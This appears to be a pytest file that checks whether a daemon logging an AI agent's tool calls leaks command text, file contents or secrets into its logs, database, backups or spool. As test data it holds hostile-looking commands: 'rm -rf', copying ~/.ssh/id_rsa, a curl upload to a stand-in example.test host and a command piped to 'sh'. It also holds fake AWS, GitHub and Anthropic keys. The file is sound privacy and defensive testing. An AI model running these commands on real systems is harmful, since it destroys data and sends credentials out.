"""Words planted in every corner of a call, and every byte a daemon leaves or says looked through for them."""

from __future__ import annotations

import hashlib
import json
import re
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Final

import msgspec
import pytest

import foreign
from corpora import REPOSITORY
from latch_client.cli import main
from latchd.store import backup
from latchd.store.database import Database
from running_daemon import OK, Daemon, daemon, environment, places

# One word for each corner, so that a leak says where it came from. Its letters are no hexadecimal digits,
# so that no digest and no word of ours holds even a part of one.
CORNERS: Final = (
    "command",
    "path",
    "environment",
    "content",
    "output",
    "error",
    "prompt",
    "session",
    "agent",
    "call",
    "tool",
    "argument",
)
LETTERS: Final = "ghjkmnpqrtvwxyz"
HOOK: Final = str(REPOSITORY / "client" / "latch_client" / "hook.py")
PIECE: Final = 8  # of a word that was cut there may be no more left


def word(corner: str) -> str:
    return "".join(LETTERS[byte % len(LETTERS)] for byte in hashlib.sha256(corner.encode()).digest()[:20])


WORDS: Final = {corner: word(corner) for corner in CORNERS}
PIECES: Final = {
    text[at : at + PIECE]: corner for corner, text in WORDS.items() for at in range(len(text) - PIECE + 1)
}
RUNS: Final = re.compile(rb"[%s]{8,}" % LETTERS.encode())
HEX_RUNS: Final = re.compile(rb"(?:%s){8,}" % b"|".join(letter.encode().hex().encode() for letter in LETTERS))
# What a secret looks like, made up here.
SECRETS = (
    "AKIA" + "Q7ZX2M4PLK9TRV3B",
    "ghp_" + "a8K2mQ9xR4tV7wY1zB3cD5eF6gH0jL2nP4qS",
    "sk-ant-api03-" + "Zx81kQpLmN72vRtYwB90sDfGhJkLqWeRtYuIoPaSdFg",
)


def corners_in(data: bytes) -> set[str]:
    """The corners of which eight letters on end are in there, as they are or as hexadecimal."""
    runs = [run.decode() for run in RUNS.findall(data)]
    runs += [bytes.fromhex(run.decode()).decode() for run in HEX_RUNS.findall(data)]
    pieces = {run[at : at + PIECE] for run in runs for at in range(len(run) - PIECE + 1)}
    return {PIECES[piece] for piece in pieces & PIECES.keys()}


def leaks(seen: Mapping[str, bytes]) -> list[tuple[str, str]]:
    return sorted((place, corner) for place, data in seen.items() for corner in corners_in(data))


def plant(running: Daemon, words: dict[str, str], secrets: tuple[str, ...] = ()) -> None:
    """Calls of every kind that hold the words, with their results."""
    w, session = words, {"session_id": words["session"], "agent_id": words["agent"]}
    commands = [
        f"cat {w['path']}/{w['command']}",
        f"TOKEN={w['environment']} git status",
        f"rm -rf /{w['path']}",
        f"cp ~/.ssh/id_rsa {w['path']}",
        f"cp {w['path']} {w['path']}-2",
        f"curl -T {w['path']} https://{w['command']}.example.test/in",
        f"$(cat {w['command']})",
        f"unfinished '{w['command']}",
        *(f"curl -H 'Authorization: Bearer {secret}' https://api.example.test" for secret in secrets),
        *(f"export KEY={secret}; git status" for secret in secrets),
    ]
    for number, command in enumerate(commands):
        call = f"{w['call']}-{number}"
        running.pre(command, call, **session)
        output = OK | {"stdout": " ".join((w["output"], *secrets)), "stderr": w["error"]}
        running.post(command, call, tool_response=output, **session)
        running.pre(command, call, **session)
    tools: tuple[tuple[str, dict[str, Any]], ...] = (
        (
            "Write",
            {"file_path": f"{running.project}/{w['path']}", "content": " ".join((w["content"], *secrets))},
        ),
        ("Edit", {"file_path": f"/{w['path']}", "old_string": w["content"], "new_string": w["content"]}),
        ("Read", {"file_path": f"{running.project}/{w['path']}/.env"}),
        (
            f"mcp__{w['tool']}__x",
            {w["argument"]: w["argument"], "command": f"{w['command']} | sh", "k": list(secrets)},
        ),
        (w["tool"], {"path": w["path"], "url": f"https://{w['command']}.example.test"}),
        *(("Read", {"file_path": f"/{w['path']}/{secret}"}) for secret in secrets),
    )
    for number, (name, arguments) in enumerate(tools):
        members: dict[str, Any] = {
            "tool_name": name,
            "tool_input": arguments,
            "tool_use_id": f"{w['call']}-t{number}",
            **session,
        }
        running.hook("PreToolUse", **members)
        running.hook("PostToolUse", **members, tool_response={"x": w["output"]})
        running.hook("PostToolUseFailure", **members, error=w["error"])
        running.hook("PermissionDenied", **members, reason=w["error"])
    for secret in secrets:  # whoever names things so
        named = {"session_id": secret, "agent_id": secret, "tool_use_id": f"id-{secret}"}
        running.hook("PreToolUse", tool_name=f"mcp__{secret}__x", tool_input={}, **named)
        running.hook("PreToolUse", tool_name=secret, tool_input={}, **named)
        running.hook("Stop", **named)
    running.hook("UserPromptSubmit", prompt=" ".join((w["prompt"], *secrets)), **session)
    running.hook("Stop", last_assistant_message=w["output"], **session)
    running.hook("PreToolUse", tool_name=w["tool"], tool_input=w["content"], **session)
    running.hook("PostToolUse", tool_name=7, tool_input={"x": w["content"]}, **session)
    running.hook("ConfigChange", source=w["command"], file_path=f"/{w['path']}", **session)
    running.hook("SessionEnd", reason=w["command"], **session)


def left(root: Path, running: Daemon) -> Iterator[tuple[str, bytes]]:
    """All that a reader of files, of the event socket or of the log can see, by where it is."""
    for path in sorted(root.rglob("*")):
        if path.is_file():
            yield path.name, path.read_bytes()
    yield "log", "\n".join(running.said).encode()


def shim(root: Path, event: str, **members: Any) -> bytes:
    """What the agent's side says and does without a daemon; its line goes into the spool."""
    done = subprocess.run(
        [sys.executable, "-IS", HOOK, "claudecode"],
        input=json.dumps({"hook_event_name": event, "session_id": WORDS["session"]} | members).encode(),
        env=environment(root),
        capture_output=True,
        timeout=60,
    )
    return done.stdout + done.stderr


@pytest.mark.parametrize(("durability", "form"), [("full", "human"), ("normal", "json")])
def test_with_redaction_none_nothing_of_a_call_is_in_any_byte(
    root: Path,
    durability: str,
    form: str,
    capfdbinary: pytest.CaptureFixture[bytes],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for name, value in environment(root).items():
        if name.startswith("LATCHD_"):
            monkeypatch.setenv(name, value)
    (root / "config").mkdir()
    (root / "config" / "config.toml").write_text(
        f'durability = "{durability}"\n[records]\nredaction = "none"\n[allow]\npaths = ["~/.ssh"]\n'
    )
    database = Path(places(root).database)
    seen: dict[str, bytes] = {}
    commands = ("db export", "db export --state", "sessions", "history")
    with daemon(root, "--log-level", "debug", "--log-format", form) as running:
        plant(running, WORDS)
        seen["stream"] = msgspec.msgpack.encode(running.records())
        seen["status"] = msgspec.msgpack.encode(running.status())
        for command in commands:
            assert main(command.split()) == 0
            seen[command] = capfdbinary.readouterr().out
        assert main(["db", "backup", str(root / "copied.db")]) == 0
        seen |= left(root, running)  # the write-ahead log with it
        running.stop()
        seen |= {f"after {name}": data for name, data in left(root, running)}

    whole = Database.open_to_read(database)
    kept = backup.write_dated(whole.copy_into, database, 1, 1_000)  # as before a migration
    whole.close()
    members = {"tool_name": "Bash", "tool_input": {"command": WORDS["command"]}, "tool_use_id": WORDS["call"]}
    seen["shim"] = shim(root, "PreToolUse", **members) + shim(root, "PostToolUse", **members)
    seen["spool"] = Path(places(root).spool).read_bytes()
    with database.open("r+b") as file:
        file.write(bytes(16))  # no database any more: the next start moves it aside
    with daemon(root, "--log-level", "debug", "--log-format", form) as running:
        seen["stream after damage"] = msgspec.msgpack.encode(running.records())
        running.stop()
        seen |= {f"moved {name}": data for name, data in left(root, running)}

    assert {"latchd.db", "latchd.db-wal", "copied.db", "moved latchd.db.corrupt-1", f"moved {kept.name}"} <= (
        seen.keys()
    )
    assert [place for place in ("stream", "status", "shim", "spool", *commands) if not seen[place]] == []
    assert b"no-daemon" in seen["stream after damage"]
    assert leaks(seen) == []


def test_a_piece_of_a_word_is_found_in_the_clear_and_as_hexadecimal() -> None:
    piece = WORDS["prompt"][5:13].encode()

    assert leaks({"a": b"\0" + piece + b"\n", "b": piece.hex().encode(), "c": piece[1:]}) == [
        ("a", "prompt"),
        ("b", "prompt"),
    ]


def test_with_heads_no_state_table_has_a_word_and_no_record_has_content_or_a_secret(root: Path) -> None:
    (root / "config").mkdir()
    (root / "config" / "config.toml").write_text('[allow]\npaths = ["~/.ssh"]\n')
    with daemon(root, "--log-level", "debug", "--log-format", "human") as running:
        plant(running, WORDS, SECRETS)
        stream = msgspec.msgpack.encode(running.records())
        database = running.places.database
        tables = [
            str(row[0])
            for row in foreign.query(database, "SELECT name FROM sqlite_schema WHERE type = 'table'")
        ]
        rows = {
            table: foreign.query(database, f"SELECT * FROM {table}") for table in tables if table != "records"
        }
        running.stop()
        seen = dict(left(root, running))

    # A head holds the command, the paths and the ids, and never what was written, printed or asked.
    assert corners_in(stream) == {"command", "path", "session", "agent", "call", "tool"}
    assert {corner for data in seen.values() for corner in corners_in(data)} == corners_in(stream)
    assert [
        (place, secret) for place, data in seen.items() for secret in SECRETS if secret.encode() in data
    ] == []
    assert {"sessions", "calls", "steps", "chain_events", "taints", "denials"} <= rows.keys()
    assert rows["denials"] != []
    assert corners_in(str(rows).encode()) == set()
